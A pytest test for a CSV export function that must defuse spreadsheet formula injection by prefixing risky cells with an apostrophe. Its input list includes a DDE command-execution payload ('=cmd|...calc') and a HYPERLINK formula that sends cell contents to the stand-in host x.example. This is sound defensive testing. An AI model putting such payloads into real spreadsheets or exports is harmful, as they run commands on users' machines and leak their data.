"""Tables for spreadsheets: whatever a text holds, it comes back as it is, and no cell is worked out."""

import csv
import io

import pytest

from console.stats.table import as_csv
from tests.whole.hostile import WORDS

FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://x.example/?"&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    '"=1',
    ',=1"',
    "a\n=1",
]
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


@pytest.mark.req("D6", "D7", "O4")
def test_no_cell_is_a_formula_and_none_is_changed() -> None:
    """Formulas in every spelling, quotes, breaks, NUL, markup, signs that turn the line around: as values and names."""
    texts = [*FORMULAS, *(word for word in WORDS if len(word) < 2000)]
    answer = {
        "query": {"dimensions": [f"event:props:{texts[0]}", texts[1]], "metrics": ["visitors"]},
        "meta": {},
        "results": [{"dimensions": [text, text[::-1]], "metrics": [-1]} for text in texts],
    }
    lines = list(csv.reader(io.StringIO(as_csv(answer), newline="")))
    assert lines[0] == [f"event:props:{texts[0]}", f"'{texts[1]}", "visitors"]
    assert len(lines) == len(texts) + 1
    for text, cells in zip(texts, lines[1:], strict=True):
        for sent, cell in zip((text, text[::-1]), cells[:2], strict=True):
            assert cell == (f"'{sent}" if sent and sent[0] in STARTS else sent)
            assert not cell or cell[0] not in STARTS
        assert cells[2] == "-1", "a number stays one"
